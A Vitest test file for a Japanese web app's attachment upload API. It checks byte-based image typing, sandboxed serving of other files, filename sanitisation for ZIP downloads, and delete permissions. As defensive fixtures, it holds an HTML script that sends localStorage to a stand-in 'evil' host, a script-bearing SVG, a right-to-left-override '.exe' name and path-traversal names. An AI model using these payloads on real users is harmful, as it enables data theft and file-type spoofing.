// Attachments as an attacker would send them (#36): a "photo" that is a script, names that lie
// about their extension or break lines, ZIP entries Windows would misread, and the 403/404 rule
// of a delete the caller may not make.
import { unzipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestApi, type TestApi } from "../test/harness";
import { sniffPhotoType } from "./content-type";
import { safeEntryName } from "./file-name";
import { uniqueEntryNames, zipEntryTime } from "./zip";

const ADMIN = "admin@example.jp";
const STAFF = "construction@example.jp"; // 工事担当: constructionEdit, its company's constructions
const LINECODE = "linecode@example.jp"; // 引込線登録: lineCodeEdit only, reads no attachment
const NEGOTIATOR = "negotiation@example.jp"; // 交渉担当: matterRead, no targetEdit

// The leading bytes of real files of each allowed type (enough for any reader to know them).
const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01]);
const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49]);
const WEBP = Buffer.concat([
  Buffer.from("RIFF"),
  Buffer.from([0x24, 0, 0, 0]),
  Buffer.from("WEBPVP8 "),
]);
const HEIC = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from("ftypheic\0\0\0\0mif1")]);
const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(localStorage)</script></svg>',
);
const HTML = Buffer.from("<!doctype html><script>fetch('//evil/'+localStorage)</script>");

let api: TestApi;
let constructionId: number;
let targetId: number;

const b64 = (bytes: Buffer) => bytes.toString("base64");
const photo = (bytes: Buffer, mimeType: string, fileName = "現場写真.jpg") => ({
  ownerType: "construction",
  ownerId: constructionId,
  kind: "photo",
  fileName,
  mimeType,
  contentBase64: b64(bytes),
});
const post = (as: string, json: unknown) =>
  api.json("/basis/attachments", { as, method: "POST", json });

beforeAll(async () => {
  api = await startTestApi();
  const mine = await api.json("/basis/constructions", { as: STAFF, query: { pageSize: 1 } });
  constructionId = mine.body[0].id;
  const targets = await api.json("/basis/targets", { as: ADMIN, query: { pageSize: 1 } });
  targetId = targets.body[0].id;
}, 120_000);

afterAll(async () => {
  await api?.close();
});

describe("photos are JPEG, PNG, WebP or HEIC by their bytes", () => {
  it.each([
    ["JPEG", JPEG, "image/jpeg"],
    ["PNG", PNG, "image/png"],
    ["WebP", WEBP, "image/webp"],
    ["HEIC", HEIC, "image/heic"],
  ])("stores a %s as what its bytes are, whatever it was called", async (_name, bytes, type) => {
    // Declared as something else on purpose: the bytes decide.
    const res = await post(STAFF, photo(bytes, "application/octet-stream", "IMG_0001"));
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body.mimeType).toBe(type);
    const content = await api.fetch(`/basis/attachments/${res.body.id}/content`, { as: STAFF });
    expect(content.status).toBe(200);
    expect(content.headers.get("content-type")).toBe(type);
    expect(content.headers.get("content-security-policy")).toBeNull();
    expect(Buffer.from(await content.arrayBuffer()).equals(bytes)).toBe(true);
  });

  it.each([
    ["an SVG with a script", SVG, "image/svg+xml", "map.svg"],
    ["HTML labelled image/jpeg", HTML, "image/jpeg", "写真.jpg"],
    ["text/html", HTML, "text/html", "page.html"],
    [
      "AVIF (not an allowed type)",
      Buffer.from("\0\0\0\x1cftypavif\0\0\0\0mif1", "latin1"),
      "image/avif",
      "a.avif",
    ],
  ])("refuses %s as a photo, in Japanese", async (_name, bytes, type, fileName) => {
    const res = await post(STAFF, photo(bytes, type, fileName));
    expect(res.status).toBe(400);
    expect(res.body).toEqual({
      contentBase64: ["写真として登録できるのは JPEG・PNG・WebP・HEIC の画像だけです"],
    });
  });

  it("serves any other file as octet-stream in a CSP sandbox, whatever type it claimed", async () => {
    const res = await post(ADMIN, {
      ownerType: "target",
      ownerId: targetId,
      kind: "other",
      fileName: "資料.jpg",
      mimeType: "image/jpeg",
      contentBase64: b64(HTML),
    });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    // Not stored as an image it is not.
    expect(res.body.mimeType).toBe("application/octet-stream");
    const content = await api.fetch(`/basis/attachments/${res.body.id}/content`, { as: ADMIN });
    expect(content.status).toBe(200);
    expect(content.headers.get("content-type")).toBe("application/octet-stream");
    expect(content.headers.get("content-security-policy")).toBe("sandbox");
    expect(content.headers.get("x-content-type-options")).toBe("nosniff");
    expect(content.headers.get("content-disposition")).toMatch(/^attachment;/);
    expect(Buffer.from(await content.arrayBuffer()).equals(HTML)).toBe(true);
  });

  it("reads the type from the leading bytes only", () => {
    expect(sniffPhotoType(JPEG.subarray(0, 2))).toBeUndefined();
    expect(sniffPhotoType(Buffer.from("RIFF\0\0\0\0WAVE"))).toBeUndefined();
    expect(sniffPhotoType(Buffer.from("\0\0\0\x18ftypmif1", "latin1"))).toBe("image/heic");
  });
});

describe("file names", () => {
  it.each([
    ["a right-to-left override", "請求書\u202Efdp.exe"],
    ["CR/LF", "a\r\nb.jpg"],
    ["BEL", "a\u0007.jpg"],
    ["a C1 control", "a\u0085.jpg"],
    ["a bidi isolate", "a\u2067b.jpg"],
    ["a left-to-right mark", "a\u200Eb.jpg"],
  ])("refuses %s with a Japanese 400, storing nothing", async (_name, fileName) => {
    const before = await api.json("/basis/attachments", {
      as: STAFF,
      query: { ownerType: "construction", ownerId: constructionId, pageSize: 500 },
    });
    const res = await post(STAFF, photo(JPEG, "image/jpeg", fileName));
    expect(res.status).toBe(400);
    expect(res.body).toEqual({
      fileName: [
        "ファイル名に使用できない文字（制御文字・文字の向きを変える文字）が含まれています",
      ],
    });
    const after = await api.json("/basis/attachments", {
      as: STAFF,
      query: { ownerType: "construction", ownerId: constructionId, pageSize: 500 },
    });
    expect(after.body.length).toBe(before.body.length);
  });

  it("makes ZIP entry names safe on Windows", () => {
    expect(safeEntryName("C:evil.bat")).toBe("C_evil.bat");
    expect(safeEntryName("..\\..\\a.pdf")).toBe("__.._a.pdf");
    expect(safeEntryName('a*b?c"d<e>f|g:h.pdf')).toBe("a_b_c_d_e_f_g_h.pdf");
    expect(safeEntryName("CON")).toBe("_CON");
    expect(safeEntryName("nul.txt")).toBe("_nul.txt");
    expect(safeEntryName("com1.tar.gz")).toBe("_com1.tar.gz");
    expect(safeEntryName("LPT9 .pdf")).toBe("_LPT9 .pdf");
    expect(safeEntryName("console.pdf")).toBe("console.pdf");
    expect(safeEntryName("写真. . ")).toBe("写真");
    expect(safeEntryName("請求書\u202Efdp.exe")).toBe("請求書_fdp.exe");
    expect(safeEntryName("a\r\nb")).toBe("a__b");
    expect(safeEntryName("...")).toBe("_");
    expect(safeEntryName("")).toBe("file");
    // Unique ignoring case (Windows would write the second over the first).
    expect(uniqueEntryNames(["写真.JPG", "写真.jpg", "写真 (2).jpg", "写真.jpg"])).toEqual([
      "写真.JPG",
      "写真 (2).jpg",
      "写真 (2) (2).jpg",
      "写真 (3).jpg",
    ]);
  });

  it("writes the safe names into a real ZIP", async () => {
    const ids: number[] = [];
    const created: string[] = [];
    for (const fileName of ["C:evil.bat", "con.jpg", "c:EVIL.bat"]) {
      const res = await post(STAFF, photo(JPEG, "image/jpeg", fileName));
      expect(res.status, JSON.stringify(res.body)).toBe(201);
      ids.push(res.body.id);
      created.push(res.body.createdAt);
    }
    const zip = await api.fetch(`/basis/attachments/zip?ids=${ids.join(",")}`, { as: ADMIN });
    expect(zip.status).toBe(200);
    const bytes = new Uint8Array(await zip.arrayBuffer());
    const names = Object.keys(unzipSync(bytes));
    expect(names).toEqual(["C_evil.bat", "_con.jpg", "c_EVIL (2).bat"]);
    // The entry's DOS time is the file's creation in Japan time (to the DOS 2-second step).
    expect(dosTimeOf(bytes)).toBe(jstFields(new Date(created[0]!)));
  });

  it("dates ZIP entries in Japan time, whatever the server's zone", () => {
    const entry = zipEntryTime(new Date("2026-11-28T15:30:07Z"));
    expect([entry.getFullYear(), entry.getMonth() + 1, entry.getDate()]).toEqual([2026, 11, 29]);
    expect([entry.getHours(), entry.getMinutes(), entry.getSeconds()]).toEqual([0, 30, 7]);
  });
});

/** The first local header's DOS date-time as YYYY-MM-DD HH:MM:SS (seconds in 2-second steps). */
function dosTimeOf(zip: Uint8Array): string {
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  const time = view.getUint16(10, true);
  const date = view.getUint16(12, true);
  const p = (n: number) => String(n).padStart(2, "0");
  return `${1980 + (date >> 9)}-${p((date >> 5) & 15)}-${p(date & 31)} ${p(time >> 11)}:${p((time >> 5) & 63)}:${p((time & 31) * 2)}`;
}

/** The instant's Asia/Tokyo fields, seconds rounded down to the DOS 2-second step. */
function jstFields(at: Date): string {
  const t = new Date(at.getTime() + 9 * 3600_000);
  const p = (n: number) => String(n).padStart(2, "0");
  return `${t.getUTCFullYear()}-${p(t.getUTCMonth() + 1)}-${p(t.getUTCDate())} ${p(t.getUTCHours())}:${p(t.getUTCMinutes())}:${p(t.getUTCSeconds() - (t.getUTCSeconds() % 2))}`;
}

describe("a delete the caller may not make: 403 for a missing flag, 404 for a row it cannot see", () => {
  let targetFile: { id: number; version: number };
  beforeAll(async () => {
    const res = await post(ADMIN, {
      ownerType: "target",
      ownerId: targetId,
      kind: "photo",
      fileName: "物件写真.png",
      mimeType: "image/png",
      contentBase64: b64(PNG),
    });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    targetFile = res.body;
  });
  const remove = (as: string) =>
    api.json(`/basis/attachments/${targetFile.id}`, {
      as,
      method: "DELETE",
      query: { version: targetFile.version },
    });

  it("引込線登録 (reads no attachment at all): 403, the flag is missing", async () => {
    const res = await remove(LINECODE);
    expect(res.status).toBe(403);
    expect(res.body).toEqual({ permission: ["この操作を行う権限がありません"] });
  });

  it("工事担当 (reads only its constructions' files): 404, as for a row that does not exist", async () => {
    const res = await remove(STAFF);
    expect(res.status).toBe(404);
    expect(res.body).toEqual({ id: ["該当するデータが見つかりません"] });
    const missing = await api.json(`/basis/attachments/999999`, {
      as: STAFF,
      method: "DELETE",
      query: { version: 1 },
    });
    expect(missing.status).toBe(404);
  });

  it("交渉担当 (sees the file, lacks targetEdit): 403; the file is still there", async () => {
    const res = await remove(NEGOTIATOR);
    expect(res.status).toBe(403);
    const still = await api.json(`/basis/attachments/${targetFile.id}`, { as: ADMIN });
    expect(still.status).toBe(200);
  });
});
